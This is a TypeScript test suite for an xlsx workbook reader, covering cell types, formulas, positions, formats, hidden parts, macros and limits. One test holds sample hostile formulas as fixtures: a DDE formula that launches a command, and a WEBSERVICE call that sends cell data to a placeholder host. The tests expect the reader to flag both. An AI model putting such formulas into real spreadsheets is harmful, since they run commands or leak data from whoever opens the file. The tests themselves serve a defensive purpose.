import { writeZip } from "../../src/core/package/zip-write.ts";
import { oneRow, utf8, xlsx, xlsxParts } from "./build-xlsx.ts";
import { grid, gridOf, readBytes, refusedWith } from "./grid.ts";

const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;

describe("cells of every type", () => {
  test("numbers keep their digits, text and types are told apart", async () => {
    const rows =
      `<row r="1"><c r="A1"><v>312</v></c><c r="B1"><v>0.1</v></c><c r="C1"><v>1.2E+5</v></c><c r="D1"><v>-4</v></c>` +
      `<c r="E1"><v>440101199001011234</v></c></row>` +
      `<row r="3"><c r="A3" t="b"><v>1</v></c><c r="B3" t="e"><v>#REF!</v></c><c r="C3" t="d"><v>2021-03-05</v></c>` +
      `<c r="D3" t="str"><v>文字</v></c>${inline("E3", "a &amp; b")}</row>`;
    expect(await gridOf(xlsx({ sheets: { 表: rows } }))).toEqual([
      "A1 n 312",
      "B1 n 0.1",
      "C1 n 1.2E+5",
      "D1 n -4",
      "E1 n 440101199001011234",
      "A3 b TRUE",
      "B3 e #REF!",
      "C3 d 2021-03-05",
      "D3 t 文字",
      "E3 t a & b",
    ]);
  });

  test("shared strings: plain, rich, phonetic left out, escapes, empty ones are no cells", async () => {
    const strings =
      `<si><t>要闻</t></si><si><r><rPr><b/></rPr><t>阅</t></r><r><t xml:space="preserve">读 </t></r><rPh sb="0" eb="1"><t>yuè</t></rPh></si>` +
      `<si><t>a_x000D_b_x005F_</t></si><si/><si><t/></si>`;
    const cells = [0, 1, 2, 3, 4].map((i) => `<c r="${"ABCDE"[i]}1" t="s"><v>${i}</v></c>`).join("");
    expect(await gridOf(xlsx({ ...oneRow(`${cells}<c r="F1" t="s"/>`), strings }))).toEqual([
      "A1 t 要闻",
      "B1 t 阅读 ",
      "C1 t a\rb_",
    ]);
  });

  test("formulas: with result, shared, without result, with empty text", async () => {
    const cells =
      `<c r="A1"><f>SUM(B1:C1)</f><v>13</v></c><c r="B1"><f t="shared" ref="B1:C1" si="0">Z1+6</f><v>6</v></c>` +
      `<c r="C1"><f t="shared" si="0"/><v>7</v></c><c r="D1"><f>A1*2</f></c><c r="E1"><f>A1*3</f><v/></c>` +
      `<c r="F1" t="str"><f>IF(A1,"","")</f><v></v></c>`;
    const { workbook, findings } = await readBytes(xlsx(oneRow(cells)));
    expect(grid(workbook?.sheets[0])).toEqual([
      "A1 n 13 =SUM(B1:C1)",
      "B1 n 6 =Z1+6",
      "C1 n 7 =",
      "D1 e  =A1*2",
      "E1 e  =A1*3",
      `F1 t  =IF(A1,"","")`,
    ]);
    expect(findings).toMatchObject([
      { code: "workbook.formula-no-value", location: { cell: "D1" }, params: { count: 2 } },
    ]);
  });

  test("NaN and INF are neither numbers nor text", async () => {
    const cells = `<c r="A1"><v>NaN</v></c><c r="B1"><v>INF</v></c><c r="C1"><v>1e999</v></c><c r="D1"><v>1.2.3</v></c>`;
    expect(await gridOf(xlsx(oneRow(cells)))).toEqual(["A1 e NaN", "B1 e INF", "C1 n 1e999", "D1 e 1.2.3"]);
  });

  test("style-only cells and rows are no content", async () => {
    const rows = `<row r="1" s="1"><c r="A1" s="3"/><c r="B1" s="3"></c></row><row r="900000"><c r="C900000"><v>1</v></c></row>`;
    expect(await gridOf(xlsx({ sheets: { 表: rows } }))).toEqual(["C900000 n 1"]);
  });
});

describe("positions", () => {
  test("cells and rows without r follow on", async () => {
    const rows = `<row><c><v>1</v></c><c r="D1"><v>2</v></c><c><v>3</v></c></row><row><c><v>4</v></c></row><row><c r="B7"><v>5</v></c></row>`;
    expect(await gridOf(xlsx({ sheets: { 表: rows } }))).toEqual([
      "A1 n 1",
      "D1 n 2",
      "E1 n 3",
      "A2 n 4",
      "B7 n 5",
    ]);
  });

  test("rows and cells out of order are put in order", async () => {
    const rows = `<row r="2"><c r="B2"><v>4</v></c><c r="A2"><v>3</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>`;
    expect(await gridOf(xlsx({ sheets: { 表: rows } }))).toEqual(["A1 n 1", "A2 n 3", "B2 n 4"]);
  });

  test.each([
    ["a cell twice", `<row r="1"><c r="A1"><v>1</v></c><c r="A1"><v>2</v></c></row>`, "file.part-duplicate"],
    [
      "a row twice with the same cell",
      `<row r="1"><c r="A1"><v>1</v></c></row><row r="1"><c r="A1"><v>1</v></c></row>`,
      "file.part-duplicate",
    ],
    ["a cell of another row", `<row r="1"><c r="A2"><v>1</v></c></row>`, "file.damaged"],
    ["a column beyond XFD", `<row r="1"><c r="XFE1"><v>1</v></c></row>`, "file.damaged"],
    ["a row beyond the last", `<row r="1048577"><c><v>1</v></c></row>`, "file.damaged"],
    ["a string that is not there", `<row r="1"><c r="A1" t="s"><v>7</v></c></row>`, "file.damaged"],
    ["an unknown type", `<row r="1"><c r="A1" t="zz"><v>7</v></c></row>`, "file.damaged"],
  ])("refuses %s", async (_, rows, code) => {
    expect(await refusedWith(xlsx({ sheets: { 表: rows } }))).toBe(code);
  });

  test("the last cell of a sheet alone is read and reported, no dense grid is built", async () => {
    const rows = `<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>2</v></c></row>`;
    const { workbook, findings } = await readBytes(
      xlsx({ sheets: { 表: rows }, head: `<dimension ref="A1:XFD1048576"/>` }),
    );
    expect(grid(workbook?.sheets[0])).toEqual(["A1 n 1", "XFD1048576 n 2"]);
    expect(findings.map(({ code }) => code)).toEqual(["workbook.stray-cell"]);
  });
});

describe("the workbook around the cells", () => {
  test("number formats: built-in Chinese dates, custom dates, percent", async () => {
    const styles =
      `<numFmts><numFmt numFmtId="176" formatCode="yyyy&quot;年&quot;m&quot;月&quot;"/><numFmt numFmtId="177" formatCode="0.0%"/></numFmts>` +
      `<cellXfs><xf numFmtId="0"/><xf numFmtId="31"/><xf numFmtId="176"/><xf numFmtId="177"/><xf numFmtId="57"/><xf numFmtId="49"/></cellXfs>`;
    const cells = [0, 1, 2, 3, 4, 5].map((s) => `<c r="${"ABCDEF"[s]}1" s="${s}"><v>1</v></c>`).join("");
    const { workbook } = await readBytes(xlsx({ ...oneRow(cells), styles }));
    expect(workbook?.sheets[0]?.rows[0]?.cells.map(({ format }) => format.kind)).toEqual([
      "general",
      "date",
      "date",
      "percent",
      "date",
      "text",
    ]);
  });

  test("merges, hidden rows, columns and sheets, 1904, modified", async () => {
    const { workbook, findings } = await readBytes(
      xlsx({
        sheets: { 甲: `<row r="1" hidden="1"><c r="A1"><v>1</v></c><c r="C1"><v>1</v></c></row>`, 乙: "" },
        sheetAttributes: { 乙: `state="veryHidden"` },
        head: `<cols><col min="2" max="16384" hidden="1"/></cols>`,
        tail: `<mergeCells count="1"><mergeCell ref="A1:B2"/><mergeCell ref="D1"/></mergeCells>`,
        workbook: `<workbookPr date1904="1"/>`,
        extra: {
          "docProps/core.xml": `<cp:coreProperties xmlns:cp="c" xmlns:dcterms="d"><dcterms:modified>2021-07-01T08:00:00Z</dcterms:modified></cp:coreProperties>`,
        },
      }),
    );
    expect(workbook).toMatchObject({
      date1904: true,
      modified: "2021-07-01T08:00:00Z",
      format: "xlsx",
      reader: "own",
    });
    expect(workbook?.sheets.map(({ name, hidden }) => [name, hidden])).toEqual([
      ["甲", false],
      ["乙", true],
    ]);
    expect(workbook?.sheets[0]).toMatchObject({
      merges: [{ top: 1, left: 1, bottom: 2, right: 2 }],
      hiddenColumns: [2, 3],
      rows: [{ hidden: true }],
    });
    expect(findings.map(({ code }) => code)).toEqual(["workbook.hidden-cells", "workbook.hidden-sheet"]);
  });

  test("targets that are absolute, climb, or are written in another case", async () => {
    const parts = xlsxParts(oneRow(`<c r="A1"><v>1</v></c>`));
    const rels = new TextDecoder().decode(parts.get("xl/_rels/workbook.xml.rels"));
    parts.set(
      "xl/_rels/workbook.xml.rels",
      utf8(rels.replace("worksheets/sheet1.xml", "/xl/x/..\\Worksheets\\SHEET1.xml")),
    );
    expect(await gridOf(writeZip(parts))).toEqual(["A1 n 1"]);
    const renamed = new Map(
      [...parts].map(([name, bytes]) => [name.toUpperCase().replace(/\//g, "\\"), bytes]),
    );
    expect(await gridOf(writeZip(renamed))).toEqual(["A1 n 1"]);
  });

  test("a listed sheet whose part is missing refuses the file", async () => {
    const parts = xlsxParts(oneRow(`<c r="A1"><v>1</v></c>`));
    parts.delete("xl/worksheets/sheet1.xml");
    expect(await refusedWith(writeZip(parts))).toBe("file.part-missing");
  });

  test("macros, embedded objects and signatures are noted", async () => {
    const extra = {
      "xl/vbaProject.bin": "x",
      "xl/embeddings/oleObject1.bin": "x",
      "_xmlsignatures/sig1.xml": "<a/>",
    };
    const { workbook, findings } = await readBytes(
      xlsx({ ...oneRow(`<c r="A1"><v>1</v></c>`), extra }),
      "a.xlsm",
    );
    expect(workbook?.format).toBe("xlsm");
    expect(findings.map(({ code }) => code)).toEqual([
      "workbook.macros",
      "workbook.embedded-object",
      "workbook.signed",
    ]);
  });

  test("formulas that reach out are reported, their stored results are used", async () => {
    const cells =
      `<c r="A1"><f>[1]汇总!B2+1</f><v>5</v></c><c r="B1"><f>'C:\\年报\\[a.xlsx]表 1'!B2</f><v>6</v></c>` +
      `<c r="C1"><f>cmd|'/c calc'!A0</f><v>0</v></c><c r="D1"><f>WEBSERVICE("http://x/"&amp;A1)</f><v>1</v></c>` +
      `<c r="E1"><f>Table1[数量]+Sheet2!A1</f><v>1</v></c>${inline("F1", "=HYPERLINK(&quot;http://x&quot;)")}${inline("G1", "-")}${inline("H1", "-5%")}`;
    const { workbook, findings } = await readBytes(xlsx(oneRow(cells)));
    expect(grid(workbook?.sheets[0])[0]).toBe("A1 n 5 =[1]汇总!B2+1");
    expect(findings.map(({ code, params }) => [code, params["count"]])).toEqual([
      ["workbook.external-link", 2],
      ["workbook.formula-dangerous", 2],
      ["workbook.text-like-formula", 1],
    ]);
  });

  test("sheets named like parts of JavaScript are plain sheets", async () => {
    const { workbook } = await readBytes(
      xlsx({ sheets: { __proto__x: "", constructor: `<row r="1"><c r="A1"><v>1</v></c></row>` } }),
    );
    expect(workbook?.sheets.map(({ name }) => name)).toEqual(["__proto__x", "constructor"]);
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});

describe("rare but legal XML is read in full", () => {
  const sheet = (open: string, close: string, prefix: string) =>
    `<${prefix}worksheet ${open}><${prefix}sheetData><${prefix}row r="1"><${prefix}c r="A1"><${prefix}v>1</${prefix}v></${prefix}c>` +
    `<${prefix}c r="B1" t="inlineStr"><${prefix}is><${prefix}t><![CDATA[a<b]]>&#x4E2D;</${prefix}t></${prefix}is></${prefix}c></${prefix}row></${prefix}sheetData>${close}</${prefix}worksheet>`;
  const expected = ["A1 n 1", "B1 t a<b中"];

  test("prefixed, CDATA, comments", async () => {
    const part = sheet(
      `xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"`,
      "<!-- c -->",
      "x:",
    );
    expect(await gridOf(xlsx({ parts: { 表: part } }))).toEqual(expected);
  });

  test("UTF-16 part, strict namespace", async () => {
    const text = `<?xml version="1.0" encoding="UTF-16"?>${sheet("", "", "")}`;
    const bytes = new Uint8Array(2 + text.length * 2);
    const view = new DataView(bytes.buffer);
    view.setUint16(0, 0xfeff, true);
    for (let i = 0; i < text.length; i++) view.setUint16(2 + 2 * i, text.charCodeAt(i), true);
    expect(await gridOf(xlsx({ parts: { 表: bytes }, strict: true }))).toEqual(expected);
  });

  test("line ends and attributes in single quotes", async () => {
    expect(
      await gridOf(
        xlsx({
          parts: {
            表: sheet("", "", "")
              .replace(/"/g, "'")
              .replace(/><(?!!)/g, ">\r\n<"),
          },
        }),
      ),
    ).toEqual(expected);
  });
});

test("a cancelled reading gives no half of a workbook", async () => {
  const reading = await readBytes(xlsx({ sheets: { a: "", b: "" } }), "a.xlsx", { cancelled: () => true });
  expect(reading).toEqual({ workbook: null, findings: [] });
});

describe("limits", () => {
  test("more merges than any real file", async () => {
    const merges = Array.from({ length: 100_001 }, (_, i) => `<mergeCell ref="A${i + 1}:B${i + 1}"/>`).join(
      "",
    );
    expect(await refusedWith(xlsx({ sheets: { 表: "" }, tail: `<mergeCells>${merges}</mergeCells>` }))).toBe(
      "workbook.too-many-merges",
    );
  });

  test("more sheets than any real file", async () => {
    const parts = xlsxParts({ sheets: { a: "" } });
    const many = Array.from({ length: 1001 }, (_, i) => `<sheet name="s${i}" r:id="rId1"/>`).join("");
    parts.set("xl/workbook.xml", utf8(`<workbook xmlns:r="r"><sheets>${many}</sheets></workbook>`));
    expect(await refusedWith(writeZip(parts))).toBe("workbook.too-many-sheets");
  });
});
